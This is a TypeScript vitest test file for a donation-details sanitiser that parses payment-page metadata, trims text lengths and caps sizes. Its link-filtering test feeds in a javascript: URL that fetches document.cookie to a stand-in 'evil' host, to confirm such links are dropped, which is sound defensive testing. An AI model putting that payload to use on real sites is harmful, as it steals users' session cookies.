import { expect, test } from 'vitest'
import {
  detailsFromMetadata,
  donationDetails,
  type GivenDetails,
  hasDetails,
} from '../../../../shared/areas/payments/donationDetails.ts'

/** What is kept, without the members that are not told. */
const kept = (given: GivenDetails) =>
  Object.fromEntries(Object.entries(donationDetails(given)).filter(([, value]) => value !== undefined))

test('the details of a payment page are read', () => {
  const details = detailsFromMetadata(
    {
      nickname: 'bob',
      message: 'hi',
      goal: 'mic',
      attachments: '["https://youtu.be/dQw4w9WgXcQ"]',
      actions: '[{"actionId":"a","parameters":{"x":1}},{"id":"own","actionId":"b"}]',
      unrelated: 'order 7',
    },
    'card',
  )

  expect(details).toEqual({
    nickname: 'bob',
    message: 'hi',
    goal: 'mic',
    method: 'card',
    attachments: ['https://youtu.be/dQw4w9WgXcQ'],
    actions: [
      { id: '1', actionId: 'a', parameters: { x: 1 } },
      { id: 'own', actionId: 'b', parameters: {} },
    ],
    auction: undefined,
    omitted: undefined,
  })
})

test.each(['{', 'null', '"text"', '[1]', '{"a":1}', '[{"parameters":{}}]'])(
  'malformed lists (%j) are left out and noted',
  (text) => {
    const details = detailsFromMetadata({ nickname: 'bob', attachments: text, actions: text }, undefined)

    expect(details).toMatchObject({ nickname: 'bob', omitted: ['attachments', 'actions'] })
    expect([details.attachments, details.actions]).toEqual([undefined, undefined])
  },
)

test.each([
  ['nothing', {}, {}],
  ['absent in every spelling', { nickname: null, message: '', attachments: [], actions: null, auction: null }, {}],
  ['the auction of a page that has none', { auction: { item: '', isNew: false } }, {}],
  [
    'an auction that does not say whether it is new',
    { auction: { item: 'a game' } },
    { auction: { item: 'a game', isNew: false } },
  ],
  [
    'a long auction item',
    { auction: { item: 'a'.repeat(257) } },
    { auction: { item: 'a'.repeat(256), isNew: false }, omitted: ['auction'] },
  ],
  [
    'links between blanks',
    { attachments: ['', 'https://example.com/', null] },
    { attachments: ['https://example.com/'] },
  ],
  [
    'the links behind twenty that are none',
    { attachments: [...Array(20).fill('none'), 'https://example.com/'] },
    { attachments: ['https://example.com/'], omitted: ['attachments'] },
  ],
  ['an auction that is none', { auction: 7 }, { omitted: ['auction'] }],
  ['a long system', { system: 's'.repeat(65) }, { system: 's'.repeat(64), omitted: ['system'] }],
  ['texts that are none', { nickname: 7, goal: {} }, { omitted: ['nickname', 'goal'] }],
  [
    'null parameters',
    { actions: [{ id: null, actionId: 'a', parameters: null }] },
    { actions: [{ id: '1', actionId: 'a', parameters: {} }] },
  ],
  [
    'an action without a name',
    { actions: [{ actionId: '' }, { actionId: 'b' }] },
    { actions: [{ id: '2', actionId: 'b', parameters: {} }], omitted: ['actions'] },
  ],
] satisfies [string, GivenDetails, object][])('%s', (_name, given, expected) => {
  expect(kept(given)).toEqual(expected)
})

test('texts are cut to their lengths, and twenty links are kept', () => {
  const links = Array.from({ length: 21 }, (_, index) => `https://example.com/${index}`)
  const long = {
    nickname: '🦊'.repeat(33),
    message: '👨‍👩‍👧'.repeat(126),
    method: 'm'.repeat(65),
    goal: 'g'.repeat(129),
  }

  const { nickname, message, method, goal, attachments } = donationDetails({ ...long, attachments: links })

  expect([nickname, message]).toEqual(['🦊'.repeat(32), '👨‍👩‍👧'.repeat(125)])
  expect([method?.length, goal?.length]).toEqual([64, 128])
  expect(attachments).toEqual(links.slice(0, 20))
})

test('50 of 51 actions are kept, and those beyond 64 KiB are left out', () => {
  const many = Array.from({ length: 51 }, () => ({ actionId: 'a' }))
  const large = Array.from({ length: 4 }, () => ({ actionId: 'a', parameters: { text: 'я'.repeat(8500) } }))

  expect([donationDetails({ actions: many }), donationDetails({ actions: large })]).toMatchObject([
    { actions: { length: 50 }, omitted: ['actions'] },
    { actions: { length: 3 }, omitted: ['actions'] },
  ])
})

test.each([
  ['of one action', ['a']],
  ['of three actions', ['a', 'b', 'c']],
])('the actions %s are 64 KiB of JSON at most', (_name, ids) => {
  const ofBytes = (bytes: number) => {
    const empty = ids.map((id) => ({ id, actionId: 'a', parameters: { text: '' } }))
    const text = 'x'.repeat(bytes - JSON.stringify(empty).length)
    return empty.map((action, index) => (index === 0 ? { ...action, parameters: { text } } : action))
  }

  expect(kept({ actions: ofBytes(65_536) })).toEqual({ actions: ofBytes(65_536) })
  expect(kept({ actions: ofBytes(65_537) })).toMatchObject({ omitted: ['actions'] })
})

test('metadata that is a list is no text of one', () => {
  expect(detailsFromMetadata({ attachments: ['["https://example.com/"]'] }, undefined)).toMatchObject({
    attachments: undefined,
    omitted: ['attachments'],
  })
})

test('only http and https links are kept, in canonical form', () => {
  const attachments = [
    'javascript:fetch("//evil/"+document.cookie)',
    'data:text/html,x',
    'https://user:password@example.com/',
    ' HTTPS://Example.com/ a"b ',
    'http://example.com',
    `https://example.com/${'x'.repeat(2048)}`,
  ]

  expect(kept({ attachments })).toEqual({
    attachments: ['https://example.com/%20a%22b', 'http://example.com/'],
    omitted: ['attachments'],
  })
})

test('the largest payment, with its copy in the index, is below 400 KB', () => {
  const largest = donationDetails({
    nickname: '我'.repeat(100),
    message: '我'.repeat(2000),
    goal: '我'.repeat(200),
    method: '我'.repeat(100),
    system: '我'.repeat(100),
    attachments: Array.from({ length: 30 }, (_, index) => `https://example.com/${'ж'.repeat(330)}${index}`),
    actions: Array.from({ length: 60 }, () => ({ actionId: 'a'.repeat(64), parameters: { text: '我'.repeat(400) } })),
    auction: { item: '我'.repeat(300), isNew: true },
  })

  expect(largest.attachments).toHaveLength(20)
  expect(Buffer.byteLength(JSON.stringify(largest))).toBeLessThan(150_000)
})

test('an object with a toString of its own is no text, regression: it made a paid webhook fail', () => {
  expect(donationDetails({ method: { toString: 1 } })).toMatchObject({ omitted: ['method'] })
})

test.each([
  ['nickname', true],
  ['message', true],
  ['goal', true],
  ['attachments', true],
  ['actions', true],
  ['order', false],
])('metadata that have %s alone are those of a payment page: %s', (name, isPage) => {
  expect(hasDetails({ [name]: '' })).toBe(isPage)
})
